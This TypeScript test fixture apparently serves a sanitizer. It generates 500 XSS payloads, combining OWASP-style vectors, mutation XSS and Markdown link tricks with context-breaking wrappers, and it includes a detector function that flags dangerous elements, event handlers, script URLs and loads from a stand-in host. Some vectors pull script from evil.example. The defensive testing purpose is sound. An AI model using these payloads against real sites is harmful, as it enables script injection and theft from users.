/** What a payload would run, or ask for. */
export const EVIL = 'evil.example';

const run = 'alert(1)';

/** Texts that have run as scripts somewhere: OWASP's filter evasion sheet, mutation XSS, GFM. */
const VECTORS = [
  `<script>${run}</script>`,
  `<script src=//${EVIL}/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src="//${EVIL}/x.png">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<base href=//${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL}">`,
  `<link rel=stylesheet href=//${EVIL}/x.css>`,
  `<style>@import'//${EVIL}/x.css'</style>`,
  `<template><script>${run}</script></template>`,
  `<x contenteditable tabindex=1 autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="background:url(//${EVIL}/x)">x</div>`,
  `<p id="x" name="getElementById">x</p>`,
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java&#115;cript:${run})`,
  `[x](javascript&colon;${run})`,
  `[x](data:text/html,<script>${run}</script>)`,
  `[x](vbscript:${run})`,
  `![x](javascript:${run})`,
  `![x](//${EVIL}/x.png)`,
  `![x](https://${EVIL}/x.png "a" onerror="${run}")`,
  `![x" onerror="${run}](x)`,
  `<javascript:${run}>`,
  `<https://${EVIL}/"onmouseover="${run}>`,
  `www.${EVIL}"onmouseover="${run}`,
  `https://${EVIL}/<script>${run}</script>`,
  `\`\`\`<img src=x onerror=${run}>\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `[^1]\n\n[^1]: <script>${run}</script>`,
  `[x][y]\n\n[y]: javascript:${run}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
];

/** Ways out of the place where a text was put. */
const WRAPS: ((vector: string) => string)[] = [
  vector => vector,
  vector => `">${vector}`,
  vector => `'>${vector}`,
  vector => `-->${vector}`,
  vector => `</textarea></title></style></script>${vector}`,
  vector => `]]>${vector}`,
  vector => vector.replaceAll('<', '<\n'),
  vector => vector.toUpperCase(),
  vector => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  vector => `text ${vector} text`,
];

/** 500 texts. */
export const PAYLOADS: readonly string[] = VECTORS.flatMap(vector => WRAPS.map(wrap => wrap(vector)));

const FORBIDDEN_ELEMENTS =
  'script,iframe,object,embed,base,meta,link,style,form,template,svg script,animate,foreignObject';

interface Attributed {
  tagName: string;
  matches(selector: string): boolean;
  attributes: Iterable<{ name: string; value: string }>;
}
/** A document or a part of one, of a browser or of jsdom. */
interface Root {
  querySelectorAll(selector: string): Iterable<Attributed>;
}

/** What in a parsed document would run, be asked for from elsewhere or take input; empty when it is harmless. */
export function dangersIn(root: Root, allowed = ''): string[] {
  const dangers = [...root.querySelectorAll(FORBIDDEN_ELEMENTS)]
    .filter(element => !allowed || !element.matches(allowed))
    .map(element => `<${element.tagName}>`);
  for (const element of root.querySelectorAll('*'))
    for (const { name, value } of element.attributes) {
      const isAddress = /^(?:xlink:)?(?:href|src|action|formaction|data|srcdoc|poster)$/i.test(name);
      // As a browser reads an address: blanks and control characters at its beginning and within do not count.
      const scheme = value.replaceAll(/[\p{Cc}\s]/gu, '').toLowerCase();
      if (/^on/i.test(name)) dangers.push(`${name}=`);
      if (isAddress && /^(?:javascript|vbscript|data):/.test(scheme)) dangers.push(`${name}=${value}`);
      // A link may lead away; nothing may be loaded from there.
      if (isAddress && name !== 'href' && value.includes(EVIL)) dangers.push(`${name}=${value}`);
    }
  return dangers;
}
